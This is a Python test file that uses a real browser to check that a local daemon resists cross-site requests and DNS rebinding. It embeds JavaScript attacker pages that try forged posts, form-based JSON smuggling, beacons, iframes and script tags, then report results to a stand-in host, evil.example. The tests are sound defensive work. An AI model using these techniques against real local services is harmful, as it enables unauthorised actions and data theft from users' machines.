"""The guard against browsers, in a real one: a page of another site, and a name that begins to point to the daemon (DNS rebinding).

Both reach the daemon, as they would from anybody's desk. Nothing that they ask for is done, and nothing that is answered tells them
anything.
"""

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import aiohttp
import orjson
import pytest
from aiohttp import web
from chromium import install_browser, visiting
from daemon import Daemon, daemon, until

pytestmark = pytest.mark.slow
EVIL = "evil.example"
RULES = f"MAP {EVIL} 127.0.0.1"
MARKER = "known-to-nobody"
ENDPOINT = {"endpoint": "http://127.0.0.1:9/never"}
OURS = {"kind": "http", "params": ENDPOINT, "poke_interval": 3600, "labels": {"marker": MARKER}}
THEIRS = {"kind": "http", "params": ENDPOINT, "poke_interval": 3600, "labels": {"from": "evil"}}

#: What both pages begin with: `attempt` notes what an attempt brought in, `tell` sends all of it home.
COMMON = """
const seen = {};
async function attempt(name, work) {
  try { seen[name] = String(await work()); } catch (error) { seen[name] = "error " + error.name; }
}
async function asked(path, how) {
  const answer = await fetch(DAEMON + path, how);
  return [answer.type, answer.status, await answer.text()].join(" ");
}
async function loaded(element) {
  return await new Promise((done) => {
    element.onload = () => done("load");
    element.onerror = () => done("error");
    document.body.append(element);
  });
}
async function tell() { await fetch(HOME + "/report", {method: "POST", body: JSON.stringify(seen)}); }
"""
CROSS_SITE = """
async function main() {
  const text = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
  await attempt("simple post", () => asked("/v1/waits", {method: "POST", mode: "no-cors", headers: text, body: WAIT}));
  await attempt("json post", () => asked("/v1/waits", {method: "POST", headers: json, body: WAIT}));
  await attempt("batch", () => asked("/v1/waits:batch", {method: "POST", mode: "no-cors", body: WAIT}));
  await attempt("cancel", () => asked("/v1/waits/" + ID + ":cancel", {method: "POST", mode: "no-cors"}));
  await attempt("read", () => asked("/v1/waits"));
  await attempt("read without asking", () => asked("/v1/waits", {mode: "no-cors"}));
  await attempt("metrics", () => asked("/metrics"));
  await attempt("beacon", () => navigator.sendBeacon(DAEMON + "/v1/waits", new Blob([WAIT], {type: "text/plain"})));
  await attempt("events", () => new Promise((done) => {
    const events = new EventSource(DAEMON + "/v1/events");
    events.onopen = events.onmessage = () => done("open");
    events.onerror = () => { events.close(); done("error"); };
  }));
  await attempt("script", async () => {
    let said = "";
    window.onerror = (message) => { said = message; };
    const script = document.createElement("script");
    script.src = DAEMON + "/v1/waits";
    return (await loaded(script)) + " " + said;
  });
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = DAEMON + "/v1/waits";
    await loaded(frame);
    return frame.contentDocument === null ? "nothing" : frame.contentDocument.body.innerText;
  });
  for (const [name, path, value] of [["form", "/v1/waits", WAIT], ["cancelling form", "/v1/waits/" + ID + ":cancel", ""]])
    await attempt(name, async () => {
      const frame = document.createElement("iframe"), form = document.createElement("form");
      frame.name = name;
      document.body.append(frame, form);
      const [before, after] = [value.slice(0, -1) + ', "idempotency_key": "', '"}'];
      form.append(Object.assign(document.createElement("input"), {name: value && before, value: value && after}));
      Object.assign(form, {method: "post", enctype: "text/plain", action: DAEMON + path, target: name});
      const done = new Promise((resolve) => { frame.onload = () => resolve(frame.contentDocument === null ? "nothing" : "readable"); });
      form.submit();
      return await done;
    });
  await tell();
}
window.addEventListener("load", main);
"""
REBOUND = """
async function main() {
  await fetch(HOME + "/rebound");
  const json = {"Content-Type": "application/json"};
  await attempt("post", () => asked("/v1/waits", {method: "POST", headers: json, body: WAIT}));
  await attempt("cancel", () => asked("/v1/waits/" + ID + ":cancel", {method: "POST"}));
  await attempt("read", () => asked("/v1/waits"));
  await attempt("metrics", () => asked("/metrics"));
  await attempt("alive", () => asked("/livez"));
  await attempt("documents", () => asked("/openapi.json"));
  await tell();
}
window.addEventListener("load", main);
"""


class Attacker:
    """A server with a page, to which the page tells what it saw."""

    def __init__(self) -> None:
        self.page = ""
        self.url = ""
        self.asked = asyncio.Event()
        self.rebound = asyncio.Event()
        self.report: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()

    async def show(self, _: web.Request) -> web.Response:
        return web.Response(text=self.page, content_type="text/html")

    async def wait(self, _: web.Request) -> web.Response:
        self.asked.set()
        await self.rebound.wait()
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})

    async def told(self, request: web.Request) -> web.Response:
        self.report.set_result(orjson.loads(await request.read()))
        return web.Response(headers={"Access-Control-Allow-Origin": "*"})

    def write(self, script: str, **known: Any) -> None:
        """The page: `script`, and what it knows."""
        constants = "".join(
            f"const {name} = {orjson.dumps(value).decode()};" for name, value in known.items()
        )
        self.page = f"<!doctype html><body><script>{constants}{COMMON}{script}</script>"

    @asynccontextmanager
    async def serving(self) -> AsyncIterator[str]:
        """Its URL, by its own name."""
        application = web.Application()
        application.router.add_get("/", self.show)
        application.router.add_get("/rebound", self.wait)
        application.router.add_post("/report", self.told)
        runner = web.AppRunner(application, access_log=None, shutdown_timeout=0.1)
        await runner.setup()
        try:
            await web.TCPSite(runner, "127.0.0.1", 0).start()
            yield f"http://{EVIL}:{runner.addresses[0][1]}"
        finally:
            await runner.cleanup()


@pytest.fixture(autouse=True, scope="module")
def _browser() -> None:
    if why_not := install_browser():
        pytest.skip(why_not)


async def submitted(client: aiohttp.ClientSession, waitd: Daemon) -> str:
    async with client.post(f"{waitd.url}/v1/waits", json=OURS) as answer:
        assert answer.status == 201
        wait_id: str = (await answer.json())["id"]
        return wait_id


async def check_nothing_happened(client: aiohttp.ClientSession, waitd: Daemon, wait_id: str) -> None:
    async with client.get(f"{waitd.url}/v1/waits") as answer:
        waits = (await answer.json())["waits"]
    assert [(wait["id"], wait["state"]) for wait in waits] == [(wait_id, "waiting")]


def reached(waitd: Daemon) -> set[tuple[str, str, int]]:
    """Method, path and status of the requests that the daemon answered."""
    return {
        (line["method"], line["path"].rpartition("/")[2].rpartition(":")[2], line["status"])
        for line in waitd.log
        if line.get("event") == "request" and "path" in line
    }


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
async def test_a_page_of_another_site_can_do_nothing_and_reads_nothing(tmp_path: Path, host: str) -> None:
    attacker = Attacker()
    async with (
        daemon(tmp_path / "state", WAITD_LOG_LEVEL="debug") as waitd,
        aiohttp.ClientSession() as client,
        attacker.serving() as home,
    ):
        wait_id = await submitted(client, waitd)
        await until(lambda: ("POST", "waits", 201) in reached(waitd))  # ours is told before theirs begin
        before = len(waitd.log)
        url = f"http://{host}:{urlsplit(waitd.url).port}"
        attacker.write(CROSS_SITE, DAEMON=url, HOME=home, ID=wait_id, WAIT=orjson.dumps(THEIRS).decode())
        async with visiting(home + "/", tmp_path / "profile", resolver_rules=RULES), asyncio.timeout(60):
            seen = await attacker.report
        del waitd.log[:before]
        await check_nothing_happened(client, waitd, wait_id)
        assert MARKER not in str(seen)
        assert seen == {
            "simple post": "opaque 0 ",
            "json post": "error TypeError",
            "batch": "opaque 0 ",
            "cancel": "opaque 0 ",
            "read": "error TypeError",
            "read without asking": "opaque 0 ",
            "metrics": "error TypeError",
            "beacon": "true",
            "events": "error",
            "script": "error ",
            "frame": "nothing",
            "form": "nothing",
            "cancelling form": "nothing",
        }
        answered = reached(waitd)
        assert {("POST", "waits", 403), ("POST", "batch", 403), ("POST", "cancel", 403)} <= answered
        assert {status for method, _, status in answered if method != "GET"} == {403}


async def test_a_name_that_begins_to_point_to_the_daemon_leads_nowhere(tmp_path: Path) -> None:
    page, home = Attacker(), Attacker()
    async with AsyncExitStack() as stack:
        home_url = await stack.enter_async_context(home.serving())
        client = await stack.enter_async_context(aiohttp.ClientSession())
        waitd = Daemon(tmp_path / "state", WAITD_LOG_LEVEL="debug")
        await waitd.start()
        stack.push_async_callback(waitd.kill)
        wait_id = await submitted(client, waitd)
        await waitd.kill()
        async with page.serving() as url:
            page.write(REBOUND, DAEMON="", HOME=home_url, ID=wait_id, WAIT=orjson.dumps(THEIRS).decode())
            await stack.enter_async_context(visiting(url + "/", tmp_path / "profile", resolver_rules=RULES))
            async with asyncio.timeout(60):
                await home.asked.wait()
        # The attacker's name and port lead to the daemon from here on.
        port = urlsplit(url).port
        await waitd.start(WAITD_BIND=f"127.0.0.1:{port}")
        before = len(waitd.log)
        home.rebound.set()
        async with asyncio.timeout(60):
            seen = await home.report
        del waitd.log[:before]
        await check_nothing_happened(client, waitd, wait_id)
        assert MARKER not in str(seen)
        for answer in seen.values():
            kind, status, body = answer.split(" ", 2)
            assert (kind, status) == ("basic", "421")
            assert orjson.loads(body)["type"] == "/problems/misdirected"
        assert {("POST", "waits", 421), ("GET", "waits", 421), ("GET", "metrics", 421)} <= reached(waitd)
